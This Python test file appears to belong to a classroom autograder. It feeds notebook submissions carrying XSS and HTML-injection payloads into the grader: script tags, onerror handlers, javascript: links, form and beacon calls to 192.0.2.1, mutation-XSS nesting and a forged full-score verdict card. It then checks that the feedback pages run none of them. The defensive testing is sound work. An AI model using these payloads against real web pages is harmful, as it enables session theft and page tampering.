"""Attacks on those who look: HTML, script and control characters in outputs, texts, names and messages."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import nbformat
from nbformat.v4 import new_markdown_cell, new_raw_cell

from autograder.classroom.feedback_page import POLICY
from tests.attacks.harness import HONEST, Class, Family, Repelled, Submission

FAMILY = Family()

SCRIPTS = (
    "<script>document.title = 'pwned'</script>",
    "<img src=x onerror=\"document.title='pwned'\">",
    "<svg onload=\"document.title='pwned'\"><script>document.title='pwned'</script></svg>",
    "<iframe srcdoc=\"<script>parent.document.title='pwned'</script>\"></iframe>",
    "<a href=\"javascript:document.title='pwned'\">click</a>",
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    "<form action='http://192.0.2.1/pwned'><input name=x><button>send</button></form>",
    "<link rel=stylesheet href='http://192.0.2.1/pwned.css'>",
    "<style>@import 'http://192.0.2.1/pwned.css'; .score {display: none}</style>",
    "<meta http-equiv=refresh content='0; url=http://192.0.2.1/pwned'>",
    "<base href='http://192.0.2.1/pwned/'>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<math><mi xlink:href=\"data:x,<script>document.title='pwned'</script>\">x</mi></math>",
    "<div style='position:fixed;top:0;left:0;background:url(http://192.0.2.1/pwned)'>Score: 3 / 3</div>",
    "<img src='http://192.0.2.1/pwned.png'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</pre></div></body><script>document.title='pwned'</script>",
    "<scr<script>ipt>document.title='pwned'</scr</script>ipt>",
)
EVERYTHING = "\n\n".join(SCRIPTS)


@FAMILY.attack
def shows_scripts_as_html(one: Submission) -> None:
    """Outputs hold scripts, as HTML."""
    one.first(
        f"from IPython.display import HTML, display\nfor part in {SCRIPTS!r}:\n    display(HTML(part))"
    )


@FAMILY.attack
def shows_scripts_in_other_kinds(one: Submission) -> None:
    """Outputs hold scripts, as JavaScript, SVG, Markdown, LaTeX, JSON and widgets."""
    one.first(
        f"""
        from IPython.display import display
        text = {EVERYTHING!r}
        for kind in ("application/javascript", "image/svg+xml", "text/markdown", "text/latex", "application/json",
                     "application/vnd.jupyter.widget-view+json", "application/pdf", "text/x-unknown"):
            display({{kind: text, "text/plain": text}}, raw=True)
        """
    )


@FAMILY.attack
def prints_scripts(one: Submission) -> None:
    """Standard output and error hold scripts, and codes for terminals."""
    one.first(
        f"import sys\nprint({EVERYTHING!r})\nprint({EVERYTHING!r}, file=sys.stderr)\n"
        "print('\\x1b[31m<script>alert(1)</script>\\x1b]8;;javascript:alert(1)\\x07link\\x1b]8;;\\x07')"
    )


@FAMILY.attack
def raises_scripts(one: Submission) -> None:
    """An error's name, text and traceback hold scripts."""
    one.answer(
        "average",
        f"def average(numbers):\n    raise type({SCRIPTS[0]!r}, (Exception,), {{}})({EVERYTHING!r})",
    )
    one.last(f"raise ValueError({EVERYTHING!r})")


@FAMILY.attack
def returns_scripts(one: Submission) -> None:
    """Answers are scripts, which the verdict quotes."""
    one.answer("model_output", f"model_output = {EVERYTHING!r}")
    one.answer("average", f"def average(numbers):\n    return {{{SCRIPTS[0]!r}: {SCRIPTS[1]!r}}}")


@FAMILY.attack
def warns_of_scripts(one: Submission) -> None:
    """Warnings and printed lines of a right answer hold scripts, which the verdict notes."""
    one.answer(
        "average",
        "import warnings\n\ndef average(numbers):\n"
        f"    warnings.warn({SCRIPTS[0]!r})\n    print({EVERYTHING!r})\n    return sum(numbers) / len(numbers)",
    )
    one.earned.add("welcome.average")


@FAMILY.attack
def writes_scripts_as_text(one: Submission) -> None:
    """The free-text answer, and cells of text, hold scripts."""
    one.question_cell().source = f"My answer.\n\n{EVERYTHING}\n\n[click](javascript:alert(1))"
    one.note(EVERYTHING + "\n\n![x](javascript:alert(1))\n\n<javascript:alert(1)>")
    one.notebook.cells.append(new_raw_cell(EVERYTHING, id="raw"))


@FAMILY.attack
def writes_scripts_between_code_fences(one: Submission) -> None:
    """Markdown that a cleaner and a renderer may read in two ways."""
    one.notebook.cells.append(
        new_markdown_cell(
            f"`` ` `` {SCRIPTS[0]}\n\n~~~\n{SCRIPTS[0]}\n~~\n\n$$\\text{{{SCRIPTS[1]}}}$$\n\n$`{SCRIPTS[0]}`$\n\n"
            f"[a]: javascript:alert(1) '{SCRIPTS[1]}'\n\n[a]\n\n<!-- {SCRIPTS[0]} -->\n\n<![CDATA[{SCRIPTS[0]}]]>",
            id="fences",
        )
    )


@FAMILY.attack
def leaves_a_tag_open(one: Submission) -> None:
    """A tag at the end of a text is closed by what the page puts after it."""
    one.notebook.cells.append(new_markdown_cell("<div onclick=alert(1) title='", id="open"))


@FAMILY.attack
def attaches_scripts(one: Submission) -> None:
    """An attachment of a text cell is a page with a script."""
    cell = new_markdown_cell("![picture](attachment:x.svg)", id="attached")
    cell.attachments = {"x.svg": {"image/svg+xml": SCRIPTS[2], "text/html": SCRIPTS[0]}}
    gone = new_markdown_cell("![gone](attachment:gone.png) ![odd](attach\\ment&#58;odd)", id="gone")
    one.notebook.cells += [cell, gone]


@FAMILY.attack
def writes_scripts_into_code(one: Submission) -> None:
    """Comments and strings in code cells hold scripts."""
    lines = "".join(f"# {part}\n" for part in SCRIPTS)
    one.answer("average", f'{lines}average = """{EVERYTHING}"""')


@FAMILY.attack
def writes_scripts_into_metadata(one: Submission) -> None:
    """Names, tags and marks in the metadata hold scripts."""
    one.notebook.metadata["title"] = SCRIPTS[0]
    one.notebook.metadata["authors"] = [{"name": SCRIPTS[1]}]
    one.notebook.metadata["language_info"] = {"name": "python", "pygments_lexer": SCRIPTS[0]}
    one.first("1")
    one.notebook.cells[0].metadata["tags"] = [SCRIPTS[0]]
    one.notebook.cells[0].metadata["nbgrader"] = {"grade_id": SCRIPTS[1], "comment": SCRIPTS[0]}
    one.answer_cell("average").metadata["nbgrader"]["comment"] = SCRIPTS[0]


@FAMILY.attack
def pretends_to_be_a_verdict(one: Submission) -> None:
    """Outputs look like the autograder's card with full points."""
    one.first(
        """
        from IPython.display import HTML
        HTML('<div class="autograder-verdict" data-status="passed" data-exercise="welcome.average">'
             '<span class="pull-right">Score: 1.0 / 1.0</span></div>')
        """
    )


def with_a_name(name: str) -> None:
    def change(one: Submission) -> None:
        """Nothing is wrong but the student's name."""
        one.solve("average")

    FAMILY.attacks[name] = change


# As far as a folder can be called so, and nbgrader keeps it.
with_a_name("<script>document.title='pwned'<")
with_a_name("<img src=x onerror=alert(1)>")
with_a_name('"><b onclick="alert(1)">Zoë')
with_a_name("{{ 7 * 7 }} ${7*7}")


class TestEveryAttack(Repelled):
    """What holds for every family."""


class Page(HTMLParser):
    """Lists what a page would run or load."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.wrong: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag in ("script", "iframe", "object", "embed", "form", "base", "svg", "math", "link"):
            self.wrong.append(tag)
        for name, value in attrs:
            text = re.sub(r"\s", "", value or "").lower()
            if name.startswith("on") or name in ("srcdoc", "formaction", "xlink:href"):
                self.wrong.append(f"{tag} {name}")
            if name in ("href", "src") and text.startswith(
                ("javascript:", "vbscript:", "data:text")
            ):
                self.wrong.append(f"{tag} {name}={text[:40]}")
            if name == "src" and not text.startswith("data:image/"):
                self.wrong.append(f"{tag} {name}={text[:40]}")
            if name == "style" and ("url(" in text or "position" in text):
                self.wrong.append(f"{tag} {name}={text[:40]}")


def test_the_feedback_runs_and_loads_nothing(attack: str, graded: Class) -> None:
    page = graded.feedback(attack)
    assert Page(page).wrong == []
    # The policy stands before anything of the student's.
    assert page.index(POLICY) < page.index("<body>")
    assert page.count("<body>") == 1


def test_what_the_instructor_opens_holds_nothing_that_runs(attack: str, graded: Class) -> None:
    (path,) = (graded.course / "autograded" / attack).rglob("*.ipynb")
    notebook = nbformat.read(path, as_version=4)
    for cell in notebook.cells:
        for output in cell.get("outputs", []):
            data = output.get("data", {})
            assert set(data) <= {"text/html", "text/plain", "text/latex", "image/png", "image/jpeg"}
            assert Page(data.get("text/html", "")).wrong == []
        if cell.cell_type == "markdown":
            from nbconvert.filters.markdown import markdown2html

            assert Page(markdown2html(cell.source)).wrong == []
            assert "attachments" not in cell


def test_insights_hold_nothing_that_runs(graded: Class) -> None:
    from autograder.classroom.page import write_insights

    written = write_insights(graded.course, "00_welcome", None)
    (page,) = [Path(path) for path in written if Path(path).suffix == ".html"]
    text = page.read_text("utf-8")
    for script in SCRIPTS:
        assert script not in text
    page_of_ours = Page(text)
    assert not {"iframe", "object", "form", "img"} & set(page_of_ours.tags)
    assert not [one for one in page_of_ours.wrong if " on" in one]


def test_an_honest_students_feedback_still_shows_what_it_should(graded: Class) -> None:
    page = graded.feedback(HONEST)
    assert "<code>average</code> is right." in page
    # The still picture of the widget.
    assert 'src="data:image/svg+xml;base64,' in page
    assert "Score: 3.0" in page
    assert page.count('class="autograder-verdict"') == 3
